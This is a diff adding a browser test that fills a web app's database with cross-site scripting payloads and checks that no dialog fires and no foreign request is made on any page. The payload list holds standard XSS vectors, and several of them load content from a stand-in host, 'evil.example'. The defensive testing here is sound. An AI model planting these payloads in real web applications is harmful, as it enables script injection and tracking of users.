@@ -1,0 +1,139 @@
+"""Text of people, files and models stays text: scripts in every field run nowhere and call nobody."""
+
+import sqlite3
+from collections.abc import Iterator
+from contextlib import closing
+from itertools import cycle
+
+import httpx
+import pytest
+from playwright.sync_api import Page, Request
+
+from core import connect
+from core.access import TokenService
+from tests.browser.conftest import browser, open_page, page
+from tests.browser.driving import AppServer, settle
+from tests.pictures import striped
+
+__all__ = ["browser", "open_page", "page"]
+
+pytestmark = pytest.mark.browser
+
+ELSEWHERE = "evil.example"
+PAYLOADS = [
+    f"<script src=//{ELSEWHERE}/a.js></script>",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    f"<img src=http://{ELSEWHERE}/b.png>",
+    "<svg onload=alert(1)>",
+    f"<iframe src=//{ELSEWHERE}></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    f"![beacon](http://{ELSEWHERE}/c.png)",
+    "[link](javascript:alert(1))",
+    f"<link rel=stylesheet href=//{ELSEWHERE}/d.css>",
+    f"<style>@import '//{ELSEWHERE}/e.css';</style>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    f"<video poster=//{ELSEWHERE}/f.png><source onerror=alert(1)>",
+    f"<object data=//{ELSEWHERE}/g.swf></object>",
+    f"<embed src=//{ELSEWHERE}/h.swf>",
+    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}'>",
+    f"<base href=//{ELSEWHERE}/>",
+    f"<form action=//{ELSEWHERE}><button>Send</button></form>",
+    '"><script>alert(1)</script>',
+    "'-alert(1)-'",
+    "</textarea><script>alert(1)</script>",
+    "${alert(1)}",
+    "{{alert(1)}}",
+    "`${alert(1)}`",
+    "</script><script>alert(1)</script>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    f":material/home: <a href='//{ELSEWHERE}' ping='//{ELSEWHERE}/ping'>x</a>",
+    "$\\href{javascript:alert(1)}{x}$",
+]
+SHOWING = ("overview", "curate", "explore")
+"""Pages on which a payload stands without any further click, as text."""
+
+PAGES = ("overview", "upload", "generate", "curate", "explore", "style", "export", "tasks", "settings")
+
+# Every column that holds text of people, files or models, besides those that the program itself fills.
+TEXT_COLUMNS = {
+    "projects": ("description",),
+    "images": ("image_name", "tags", "source_ref"),
+    "questions": ("question", "model"),
+    "image_datasets": (
+        "image_name", "question", "answer", "model", "note", "tags", "reject_reason", "needs_review",
+        "generated_question", "generated_answer",
+    ),
+    "style_datasets": ("name", "master_prompt"),
+    "generated_images": ("prompt", "full_prompt", "caption", "style"),
+    "tasks": ("note",),
+    "task_items": ("error",),
+    "llm_calls": ("prompt", "reply"),
+    "business_profiles": ("business_name", "vibes", "theme"),
+}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[AppServer, str]]:
+    """Serve a project in which every text is a payload, each payload several times."""
+    with AppServer.running(tmp_path_factory.mktemp("server")) as server:
+        with httpx.Client(base_url=server.url, timeout=60) as http:
+            project_id = _fill(http)
+        with connect(server.data_dir) as db:
+            for payload in PAYLOADS[:5]:
+                TokenService(db).make_token(payload)
+        _poison(server)
+        yield server, project_id
+        assert "Traceback" not in server.log_text(), server.log_text()[-4000:]
+
+
+def _fill(http: httpx.Client) -> str:
+    project_id = str(http.post("/api/projects", json={"name": PAYLOADS[1]}).json()["id"])
+    address = f"/api/projects/{project_id}"
+    files = [("files", (f"{number}.png", striped(number))) for number in range(5)]
+    images = [result["image"]["id"] for result in http.post(f"{address}/images", files=files).json()["results"]]
+    for number in range(len(PAYLOADS)):
+        body = {"image_id": images[number % 5], "question": f"Question {number}?", "answer": "x", "model": "m"}
+        http.post(f"{address}/image-datasets", json=body).raise_for_status()
+    asked = http.post(f"{address}/image-questions", json={"num_questions": 2}).json()
+    http.get(f"{asked['url']}/events")
+    style = http.post("/ai/datasets", json={"name": "Warm", "project_id": project_id}).json()
+    http.post(f"/ai/datasets/{style['id']}/images", json={"image_ids": images}).raise_for_status()
+    http.post("/ai/generate", json={"prompt": "A lamp.", "dataset_id": style["id"]}).raise_for_status()
+    return project_id
+
+
+def _poison(server: AppServer) -> None:
+    payloads = cycle(PAYLOADS)
+    with closing(sqlite3.connect(server.data_dir / "vitrine.db", timeout=30)) as connection, connection:
+        for table, columns in TEXT_COLUMNS.items():
+            for (row_id,) in connection.execute(f"SELECT rowid FROM {table}").fetchall():  # noqa: S608
+                values = [next(payloads) for _ in columns]
+                # A payload is not the same question twice, and a name keeps its ending.
+                assignments = ", ".join(f"{column} = ? || ' {row_id}'" for column in columns)
+                connection.execute(f"UPDATE {table} SET {assignments} WHERE rowid = ?", (*values, row_id))  # noqa: S608
+
+
+@pytest.mark.parametrize("place", PAGES)
+def test_no_script_runs_and_nobody_else_is_called(poisoned: tuple[AppServer, str], page: Page, place: str) -> None:
+    server, project_id = poisoned
+    dialogs: list[str] = []
+    foreign: list[str] = []
+
+    def note(request: Request) -> None:
+        if not request.url.startswith((server.url, "data:", "blob:", server.url.replace("http", "ws"))):
+            foreign.append(request.url)
+
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.on("request", note)
+    page.goto(f"{server.url}/{'' if place == 'overview' else place}?project={project_id}")
+    settle(page)
+    for tab in page.get_by_role("tab").all():
+        tab.click()
+        settle(page)
+    page.wait_for_load_state("networkidle")
+    assert (dialogs, foreign) == ([], [])
+    if place in SHOWING:
+        assert page.get_by_text("alert(1)").count() > 0
